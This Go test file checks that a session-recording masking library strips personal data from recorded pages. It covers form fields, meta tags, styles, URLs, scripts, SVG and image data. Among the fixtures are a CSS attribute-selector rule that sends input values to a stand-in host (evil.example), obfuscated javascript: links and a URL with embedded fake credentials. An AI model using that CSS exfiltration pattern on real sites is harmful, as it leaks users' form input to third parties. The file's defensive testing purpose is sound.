package mask_test

import (
	"encoding/base64"
	"net/url"
	"strings"

	"github.com/pagetape/pagetape/format"
	"github.com/pagetape/pagetape/mask"
	"github.com/pagetape/pagetape/snapshot"
)

// pageRows are the rows about what is on the page: nodes, attributes, style
// sheets, addresses.
func pageRows() []leakRow {
	type node = *snapshot.Node
	masked := func(children ...node) node { return el(90, "div", attrs("class", "rr-mask"), children...) }
	label := func() node { return el(80, "label", nil, text(81, "Full name")) }
	svg := func(id snapshot.NodeID, name string, children ...node) node {
		n := el(id, name, nil, children...)
		n.Namespace = "svg"
		return n
	}
	both := func(n func() node) [][]format.Data {
		return [][]format.Data{{full(n())}, {full(), add(3, 0, n())}}
	}
	var rows []leakRow
	// inPage adds a case for a node in the snapshot, and one for the same node
	// added to the page later.
	inPage := func(r leakRow, n func() node) {
		for i, data := range both(n) {
			c := r
			c.data = data
			if i == 1 {
				c.place += ", added"
			}
			rows = append(rows, c)
		}
	}

	for _, typ := range []string{"", "text", "TEXT", "x-unknown", "email", "tel", "search", "url", "number", "date", "password", "Password"} {
		n := func() node {
			in := el(4, "input", attrs("type", typ, "value", who, "placeholder", "Your name"))
			if typ == "" {
				in.Attrs = in.Attrs[1:]
			}
			return el(5, "p", nil, label(), in)
		}
		inPage(leakRow{row: 1, place: "input value, type " + typ, secrets: []string{who}, keep: []string{"Full name", "Your name"}}, n)
	}
	rows = append(rows,
		leakRow{row: 1, place: "input value is echoed", secrets: []string{who}, keep: []string{"Welcome back,", "to the shop"},
			data: cat(full(el(4, "input", attrs("value", who)), el(5, "p", nil, text(6, "Welcome back, "+who+", to the shop"))))},
		leakRow{row: 2, place: "default value, nothing typed", secrets: []string{who}, keep: []string{"Full name"}, data: cat(
			full(label(), el(4, "input", attrs("value", who))), &format.Input{ID: 4, Text: ""})},
		leakRow{row: 2, place: "default value is set later", secrets: []string{who}, keep: []string{"Full name"}, data: cat(
			full(label(), el(4, "input", nil)), setAttrs(4, "value", who))},
	)
	inPage(leakRow{row: 3, place: "hidden", secrets: []string{who}, keep: []string{"Full name"}}, func() node {
		return el(5, "p", nil, label(), el(4, "input", attrs("type", "hidden", "name", "customer", "value", who)))
	})
	inPage(leakRow{row: 3, place: "file", secrets: []string{"Oakhurst", "divorce"}, keep: []string{"Full name"}}, func() node {
		return el(5, "p", nil, label(), el(4, "input", attrs("type", "file", "value", `C:\fakepath\Oakhurst divorce.pdf`)))
	})
	inPage(leakRow{row: 3, place: "image", secrets: []string{who}}, func() node {
		return el(4, "input", attrs("type", "image", "value", who, "src", "/go.png?for="+url.QueryEscape(who)))
	})
	inPage(leakRow{row: 3, place: "radio and checkbox", secrets: []string{"lactose intolerant", "kosher meals"}, keep: []string{"Full name"}, check: func(out []format.Event) string {
		pages, _ := pagesOf(out)
		if s := pages[0].State(6); s == nil || s.Checked == nil || !*s.Checked {
			return "checked is gone"
		}
		return ""
	}}, func() node {
		box := el(6, "input", attrs("type", "checkbox", "value", "kosher meals"))
		box.Attrs = append(box.Attrs, snapshot.Attr{Name: "checked", Type: snapshot.AttrTrue})
		return el(5, "p", nil, label(), el(4, "input", attrs("type", "radio", "value", "lactose intolerant")), box)
	})
	inPage(leakRow{row: 3, place: "labels of buttons", keep: []string{"Send it", "Clear it", "Go on", "Full name"}}, func() node {
		return el(5, "p", nil, label(), el(4, "input", attrs("type", "submit", "value", "Send it")), el(6, "input", attrs("type", "reset", "value", "Clear it")),
			el(7, "input", attrs("type", "BUTTON", "value", "Go on")))
	})
	inPage(leakRow{row: 4, place: "textarea text", secrets: []string{who}, keep: []string{"Full name"}}, func() node {
		return el(5, "p", nil, label(), el(4, "textarea", nil, text(6, "I am "+who)))
	})
	rows = append(rows,
		leakRow{row: 4, place: "textarea text, texts", secrets: []string{who}, keep: []string{"Full name"}, data: cat(
			full(label(), el(4, "textarea", nil, text(5, ""))), setText(5, "I am "+who))},
		leakRow{row: 4, place: "textarea text, node added", secrets: []string{who}, keep: []string{"Full name"}, data: cat(
			full(label(), el(4, "textarea", nil)), add(4, 0, text(5, "I am "+who)))},
	)
	inPage(leakRow{row: 5, place: "select", secrets: []string{"Transylvania", "Wallachia", "Moldavia", "Principalities"}, keep: []string{"Full name"}}, func() node {
		return el(10, "p", nil, label(), el(4, "select", attrs("value", "Transylvania"), el(5, "optgroup", attrs("label", "Principalities"),
			el(6, "option", attrs("value", "Transylvania", "selected", ""), text(7, "Transylvania (TR)")), el(8, "option", attrs("label", "Wallachia", "value", "Moldavia")))))
	})
	rows = append(rows, leakRow{row: 5, place: "select, chosen", secrets: []string{"Transylvania"}, keep: []string{"Full name"},
		data: cat(full(label(), el(4, "select", nil, el(6, "option", attrs("value", "Transylvania"), text(7, "Transylvania")), el(8, "option", attrs("value", "x"), text(9, "Other")))),
			&format.Input{ID: 4, Text: "Transylvania"}),
		check: func(out []format.Event) string {
			in, ok := only[*format.Input](out, 0)
			if !ok {
				return "no input event"
			}
			return attrIs("6", "value", in.Text)(out)
		}})
	inPage(leakRow{row: 5, place: "option that is in no select", secrets: []string{"Transylvania"}, keep: []string{"Full name"}}, func() node {
		return el(10, "p", nil, label(), el(6, "option", attrs("value", "Transylvania"), text(7, "Transylvania")))
	})
	inPage(leakRow{row: 6, place: "output, datalist, meter, progress", secrets: []string{who, street, "8471.25", "9362.75"}, keep: []string{"Full name"}}, func() node {
		return el(10, "p", nil, label(), el(4, "output", nil, text(5, "for "+who)), el(6, "datalist", nil, el(7, "option", attrs("value", street))),
			el(8, "meter", attrs("value", "8471.25"), text(12, "8471.25")), el(9, "progress", attrs("value", "9362.75", "max", "10000"), text(13, "9362.75")))
	})
	inPage(leakRow{row: 6, place: "data and li value", secrets: []string{who, "847125"}}, func() node {
		return masked(el(4, "data", attrs("value", who), text(5, "x")), el(6, "ul", nil, el(7, "li", attrs("value", "847125"), text(8, "y"))))
	})
	for _, e := range [][]string{{"contenteditable", ""}, {"contenteditable", "true"}, {"contenteditable", "plaintext-only"}, {"role", "textbox"}, {"role", "x searchbox"}} {
		place := "editable, " + e[0] + "=" + e[1]
		inPage(leakRow{row: 7, place: place, secrets: []string{who, street}, keep: []string{"Full name"}}, func() node {
			return el(10, "p", nil, label(), el(4, "div", attrs(e...), text(5, "Dear "+who), el(6, "b", attrs("title", street), text(7, street))))
		})
		rows = append(rows, leakRow{row: 7, place: place + ", texts and adds", secrets: []string{who, street}, keep: []string{"Full name"}, data: cat(
			full(label(), el(4, "div", attrs(e...), text(5, ""))), setText(5, who), add(4, 0, el(6, "p", nil, text(7, street))))})
	}
	editor := func() format.Data {
		return &format.Mutation{Frame: true, Adds: []format.Addition{{Parent: 4, Node: &snapshot.Node{ID: 10, Kind: snapshot.KindDocument,
			Children: []node{el(11, "html", nil, el(12, "body", nil, text(13, "Dear "+who)))}}}}}
	}
	rows = append(rows,
		// That a document is in design mode is in no recording: a rule has to say so.
		leakRow{row: 7, place: "frame in design mode", config: with(rule("iframe.editor", mask.Mask)), secrets: []string{who, street}, keep: []string{"Full name"},
			data: cat(full(label(), el(4, "iframe", attrs("class", "editor"))), editor(), setText(13, street))},
		leakRow{row: 8, place: "text under a rule", secrets: []string{who}, keep: []string{"Full name", " \u00a0***\u00a0\n"},
			data: cat(full(label(), masked(el(4, "b", nil, text(5, " \u00a0"+who+"\u00a0\n")))))},
		leakRow{row: 8, place: "text of the same length", config: func() mask.Config { c := mask.Default(); c.Shape = mask.ShapeLength; return c }(),
			secrets: []string{who}, keep: []string{"Full name", "**********\u00a0********"},
			data: cat(full(label(), masked(el(4, "b", nil, text(5, "Marguerite\u00a0Oakhurst")))))},
		leakRow{row: 8, place: "all text", config: mask.Strict(), secrets: []string{who, street},
			data: cat(full(el(4, "b", nil, text(5, who))), setText(5, street))},
		leakRow{row: 9, place: "title", secrets: []string{"48213377", mail}, keep: []string{"Your order", "at the shop"}, data: cat(
			full(el(4, "title", nil, text(5, "Your order 48213377 for "+mail+" at the shop"))), setText(5, "Your order 48213377 at the shop"))},
		leakRow{row: 9, place: "title under a rule", secrets: []string{who}, data: cat(full(masked(el(4, "title", nil, text(5, who)))))},
	)
	inPage(leakRow{row: 10, place: "meta", secrets: []string{who, "f00dfacecafe1234"}, keep: []string{"width=device-width", "utf-8"}}, func() node {
		return el(10, "p", nil, el(4, "meta", attrs("name", "description", "content", "Account of "+who)), el(5, "meta", attrs("property", "og:title", "content", who)),
			el(6, "meta", attrs("name", "csrf-token", "content", "f00dfacecafe1234")), el(7, "meta", attrs("name", "viewport", "content", "width=device-width")),
			el(8, "meta", attrs("charset", "utf-8")))
	})
	rows = append(rows, leakRow{row: 10, place: "meta, attribute changes", secrets: []string{who}, data: cat(
		full(el(4, "meta", attrs("name", "description", "content", "x"))), setAttrs(4, "content", who))})
	labels := []string{"placeholder", "title", "alt", "aria-label", "aria-description", "aria-valuetext", "aria-roledescription", "name", "label",
		"data-user", "data-content", "summary", "abbr", "content", "datetime", "autocomplete", "pattern", "download"}
	inPage(leakRow{row: 11, place: "labels in masked scope", secrets: []string{who}, keep: []string{"layout-a", "center"}}, func() node {
		n := el(4, "p", attrs("class", "layout-a", "align", "center"))
		for _, name := range labels {
			n.Attrs = append(n.Attrs, snapshot.Attr{Name: name, Value: who})
		}
		return masked(n)
	})
	rows = append(rows, leakRow{row: 11, place: "labels in masked scope change", secrets: []string{who}, data: cat(
		full(masked(el(4, "input", attrs("placeholder", "x")))), setAttrs(4, "placeholder", who, "aria-label", who, "title", who))})
	inPage(leakRow{row: 12, place: "class, id, for", secrets: []string{mail, "84172039"}, keep: []string{"user", "Full name"},
		check: func(out []format.Event) string {
			pages, _ := pagesOf(out)
			id, to := "", ""
			for _, a := range pages[0].Node(4).Attr {
				if a.Key == "id" {
					id = a.Val
				}
			}
			for _, a := range pages[0].Node(5).Attr {
				if a.Key == "for" {
					to = a.Val
				}
			}
			if id != to {
				return "label and field are no pair any more"
			}
			return ""
		}}, func() node {
		return el(10, "p", nil, label(), el(4, "p", attrs("id", mail, "class", "user u-84172039 user-"+mail)), el(5, "label", attrs("for", mail)))
	})
	inPage(leakRow{row: 13, place: "custom elements and attributes", secrets: []string{who, mail, street}, keep: []string{"Full name"}}, func() node {
		return el(10, "p", nil, label(), el(4, "my-el", attrs("value", who)), el(6, "p", attrs(mail, "")),
			masked(el(5, "my-el", attrs("person", who, "ng-reflect-model", street, ":prop", street, "x-data", `{"a":"`+who+`"}`))))
	})
	inPage(leakRow{row: 14, place: "inline style", secrets: []string{who, street, "Oakhurst"}, keep: []string{"color:red", "12px"}}, func() node {
		return masked(el(4, "p", attrs("style", `color:red;margin:12px;--who:"`+who+`";--raw:Oakhurst;background:url("/a.png?u=`+url.QueryEscape(who)+`");content:'`+street+`'`)))
	})
	inPage(leakRow{row: 14, place: "comment and query in an inline style", secrets: []string{who, street}, keep: []string{"color:red"}}, func() node {
		return el(4, "p", attrs("style", `color:red;/* `+who+` */background:url(/a.png?u=`+url.QueryEscape(street)+`)`))
	})
	sheet := `/* made for ` + who + ` */.a{color:red}` + "/* rr_split */" + `input[value="` + who + `"]{background:url(//evil.example/?` + url.QueryEscape(who) + `)} [value=Oakhurst] i{top:1px}`
	inPage(leakRow{row: 15, place: "style sheet, its comments and selectors", secrets: []string{who, "Oakhurst"}, keep: []string{".a", "color:red", "rr_split"}}, func() node {
		return el(10, "p", nil, el(4, "style", nil, text(5, sheet)), el(6, "style", attrs("_cssText", sheet)), el(7, "link", attrs("rel", "stylesheet", "_cssText", sheet)))
	})
	inPage(leakRow{row: 15, place: "style sheet in masked scope", secrets: []string{who, street}, keep: []string{".a", "color:red"}}, func() node {
		return masked(el(4, "style", nil, text(5, sheet+`.b::after{content:"`+street+`"} [title="`+street+`"]{--x:"`+street+`"}`)))
	})
	rows = append(rows, leakRow{row: 15, place: "style sheet, texts", secrets: []string{who, "Oakhurst"}, keep: []string{"color:red"}, data: cat(
		full(el(4, "style", nil, text(5, "a{}"))), setText(5, sheet))})

	address := "https://" + "oakhurst:hunter2secret@shop.example/list?tab=" + url.QueryEscape(who) + "&" + url.QueryEscape(street) + "#" + url.PathEscape(street)
	urlAttrs := []string{"href", "src", "srcset", "poster", "action", "formaction", "cite", "ping", "xlink:href", "background", "longdesc", "data-src", "rr_src"}
	inPage(leakRow{row: 16, place: "addresses", secrets: []string{who, street, "hunter2secret", "oakhurst"}, keep: []string{"shop.example/list?tab="}}, func() node {
		n := el(4, "a", nil, text(5, "x"))
		for _, name := range urlAttrs {
			v := address
			if name == "srcset" {
				v = address + " 1x, " + address + " 2x"
			}
			n.Attrs = append(n.Attrs, snapshot.Attr{Name: name, Value: v})
		}
		return el(10, "p", nil, n, el(6, "object", attrs("data", address)))
	})
	inPage(leakRow{row: 16, place: "paths", secrets: []string{mail, "8c2f6ad0-41b7-4c5e-9a01-7be65fd0c4a3", "eW91IGZvdW5kIG1lIGhlcmU0NzEx"}, keep: []string{"shop.example", "reset", "account"}}, func() node {
		return el(10, "p", nil, el(4, "a", attrs("href", "https://shop.example/account/"+url.PathEscape(mail)+"/orders"), text(7, "x")),
			el(5, "a", attrs("href", "https://shop.example/reset/8c2f6ad0-41b7-4c5e-9a01-7be65fd0c4a3"), text(8, "x")),
			el(6, "a", attrs("href", "/reset/eW91IGZvdW5kIG1lIGhlcmU0NzEx/now"), text(9, "x")))
	})
	inPage(leakRow{row: 16, place: "addresses in masked scope", secrets: []string{who}}, func() node {
		n := el(4, "a", nil)
		for _, name := range urlAttrs {
			n.Attrs = append(n.Attrs, snapshot.Attr{Name: name, Value: "/people/" + url.PathEscape(who)})
		}
		return masked(n)
	})
	inPage(leakRow{row: 17, place: "addresses that are no place", secrets: []string{mail, phone, who, "Oakhurst"}, keep: []string{"mail us"}}, func() node {
		list := []node{text(11, "mail us")}
		for i, u := range []string{"mailto:" + mail + "?subject=" + url.QueryEscape(who), "tel:+1-202-555-0143", "sms:" + phone + "?body=" + url.QueryEscape(who),
			"javascript:greet('" + who + "')", "data:text/html," + url.PathEscape(who), "data:text/plain;base64," + base64.StdEncoding.EncodeToString([]byte(who)),
			"blob:https://shop.example/Oakhurst", "JAVASCRIPT:'Oakhurst'", " java\nscript:'Oakhurst'", "whatsapp:Oakhurst"} {
			list = append(list, el(snapshot.NodeID(20+i), "a", attrs("href", u)))
		}
		return el(10, "p", nil, list...)
	})
	inPage(leakRow{row: 18, place: "srcdoc", secrets: []string{who}}, func() node {
		return el(4, "iframe", attrs("srcdoc", "<p>Dear "+who+"</p>"))
	})
	rows = append(rows, leakRow{row: 18, place: "srcdoc changes", secrets: []string{who}, data: cat(full(el(4, "iframe", nil)), setAttrs(4, "srcdoc", "<p>"+who))})
	inPage(leakRow{row: 19, place: "comment", secrets: []string{who}, keep: []string{"Full name"}}, func() node {
		return el(10, "p", nil, label(), &snapshot.Node{ID: 4, Kind: snapshot.KindComment, Text: "rendered for " + who})
	})
	rows = append(rows,
		leakRow{row: 19, place: "comment, texts", secrets: []string{who}, data: cat(full(&snapshot.Node{ID: 4, Kind: snapshot.KindComment, Text: ""}), setText(4, who))},
		leakRow{row: 19, place: "CDATA under a rule", secrets: []string{who}, data: cat(full(masked(&snapshot.Node{ID: 4, Kind: snapshot.KindCDATA, Text: who})))},
		leakRow{row: 19, place: "doctype", secrets: []string{who, street, "Oakhurst"}, data: cat(&format.FullSnapshot{Node: &snapshot.Node{ID: 1, Kind: snapshot.KindDocument, Children: []node{
			{ID: 2, Kind: snapshot.KindDoctype, Name: "Oakhurst", PublicID: who, SystemID: "http://x.example/" + url.PathEscape(street)}, el(3, "html", nil)}}})},
	)
	inPage(leakRow{row: 21, place: "noscript", secrets: []string{who, street}, keep: []string{"Full name"}}, func() node {
		return el(10, "p", nil, label(), el(4, "noscript", nil, text(5, `<img src="/px?u=`+who+`">`), el(6, "p", nil, text(7, street))))
	})
	rows = append(rows, leakRow{row: 21, place: "noscript, texts", secrets: []string{who}, data: cat(full(el(4, "noscript", nil, text(5, ""))), setText(5, who))})
	inPage(leakRow{row: 22, place: "script", secrets: []string{who, street}, keep: []string{"Full name"}}, func() node {
		return el(10, "p", nil, label(), el(4, "script", nil, text(5, "user='"+who+"'")), el(6, "script", attrs("type", "application/ld+json"), text(7, `{"@type":"Person","address":"`+street+`"}`)),
			el(8, "p", attrs("onclick", "greet('"+who+"')")))
	})
	rows = append(rows,
		leakRow{row: 22, place: "script, texts", secrets: []string{who}, data: cat(full(el(4, "script", nil, text(5, ""))), setText(5, "user='"+who+"'"))},
		leakRow{row: 22, place: "script, node added", secrets: []string{who}, data: cat(full(el(4, "script", nil)), add(4, 0, text(5, "user='"+who+"'")))},
	)
	inPage(leakRow{row: 23, place: "svg", secrets: []string{who, street, "Oakhurst"}, keep: []string{"M1 2"}}, func() node {
		use := svg(8, "use")
		use.Attrs = attrs("href", "/sprite.svg?u=Oakhurst#icon", "xlink:href", "data:image/svg+xml,<text>"+who+"</text>")
		path := svg(13, "path")
		path.Attrs = attrs("d", "M1 2")
		return masked(svg(20, "svg", svg(4, "text", text(5, who)), svg(6, "title", text(7, who)), use, svg(9, "desc", text(12, street)), path,
			svg(10, "foreignObject", el(11, "p", nil, text(14, who)))))
	})
	pixels := "data:image/png;base64," + base64.StdEncoding.EncodeToString([]byte(strings.Repeat(who, 3)))
	inPage(leakRow{row: 24, place: "pixels in masked scope", secrets: []string{who}, keep: []string{"120px", "64"}}, func() node {
		return masked(el(4, "canvas", attrs("rr_dataURL", pixels, "width", "64")), el(5, "img", attrs("src", pixels, "rr_dataURL", pixels, "rr_width", "120px")),
			el(6, "video", attrs("poster", pixels)))
	})
	rows = append(rows,
		leakRow{row: 24, place: "asset", secrets: []string{who, street}, data: cat(
			&format.Asset{URL: "https://shop.example/a.png?u=" + url.QueryEscape(street), Payload: `{"rr_type":"Blob","data":"` + base64.StdEncoding.EncodeToString([]byte(who)) + `"}`},
			&format.Asset{URL: "/b", Failed: `{"status":404,"message":"none for ` + who + `"}`})},
	)
	return rows
}
